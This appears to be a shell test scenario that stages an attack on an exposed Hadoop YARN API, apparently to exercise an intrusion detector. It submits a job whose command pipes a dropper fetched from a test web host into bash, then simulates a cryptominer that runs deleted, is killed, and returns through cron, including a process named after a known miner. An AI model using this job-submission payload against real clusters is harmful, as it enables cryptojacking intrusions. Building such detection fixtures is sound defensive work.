# SPDX-License-Identifier: Apache-2.0
# YARN is open to the network. A legitimate job runs; then one that pipes a dropper into bash. The
# miner is deleted while it runs, is killed by an administrator, and cron brings it back.
. "$STAGE/common.sh"

mkdir -m 777 drop
mkdir -m 755 jdk yarn
# A NodeManager's image is java's, which is how an alert knows a network service.
cp "$(readlink -f /usr/bin/python3)" jdk/java
: >drop/log
chmod 666 drop/log

cp /bin/sleep drop/kdevtmpfsi
setpriv --reuid 65534 --regid 65534 --clear-groups drop/kdevtmpfsi 300 &
echo $! >drop/rival.pid
chmod 666 drop/rival.pid
disown

jdk/java "$STAGE/nodemanager.py" 28088 "$STAGE/yarn" &
node=$!
bash crond.sh drop/crontab 65534 &
cron=$!
wait_for '[[ -e yarn/ready ]]'

submit() {
    curl -s -H 'Content-Type: application/json' -d "$1" http://127.0.0.1:28088/ws/v1/cluster/apps
}

submit '{"application-id": "application_0001", "am-container-spec": {"commands":
    {"command": "seq 1 2000 | sort -n | tail -n 1 && sleep 0.3"}}}'
wait_for 'compgen -G "yarn/appcache/application_0001/*/container.pid.exitcode" >/dev/null'

submit '{"application-id": "application_0002", "am-container-spec": {"commands":
    {"command": "(curl -s '"$WEB"'/zz.sh || wget -q -O - '"$WEB"'/zz.sh) | bash & disown"}}}'
wait_for '[[ -e drop/finished ]]'
wait_for 'accepted drop/log 5' # the pool has hung up once: a deleted program has connected

# The administrator kills the process that eats the processor, and cron's hour comes.
kill "$(<drop/miner.pid)"
rm -f drop/finished
: >drop/log
touch cron.due
wait_for '[[ -e drop/finished ]]'
wait_for 'accepted drop/log 5'

kill "$(<drop/miner.pid)"
touch cron.stop
kill "$node"
wait "$cron"
touch done
